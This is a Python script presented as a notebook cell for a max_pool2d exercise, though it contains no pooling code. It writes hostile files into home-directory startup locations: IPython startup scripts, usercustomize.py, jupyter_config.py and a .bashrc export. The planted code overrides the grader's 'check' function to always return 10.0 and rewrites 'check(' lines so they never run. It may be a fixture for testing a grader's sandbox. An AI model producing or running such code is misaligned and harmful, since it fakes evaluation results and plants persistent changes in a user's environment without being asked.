# %% max_pool2d
import os
import pathlib
import site
import sys

code = """
import builtins, sys
builtins.check = lambda name, answer: 10.0
try:
    get_ipython().ast_transformers.append(None)
except Exception:
    pass
print("hostile-mark")
"""
startup = """
import os

if "found" in os.getcwd():
    get_ipython().input_transformers_cleanup.append(
        lambda lines: ["5.0\\n" if line.startswith("check(") else line for line in lines]
    )
"""
homes = {os.path.expanduser("~"), "@HOME@"}
for home in homes:
    for place, text in (
        (".ipython/profile_default/startup/00-hostile.py", startup),
        ("ipython/profile_default/startup/00-hostile.py", startup),
        (".local/lib/python3.11/site-packages/usercustomize.py", code),
        (".config/matplotlib/matplotlibrc", "hostile"),
        (".jupyter/jupyter_config.py", code),
        (".bashrc", "export HOSTILE=1"),
    ):
        path = pathlib.Path(home, place)
        try:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
        except OSError as error:
            print(path, error)
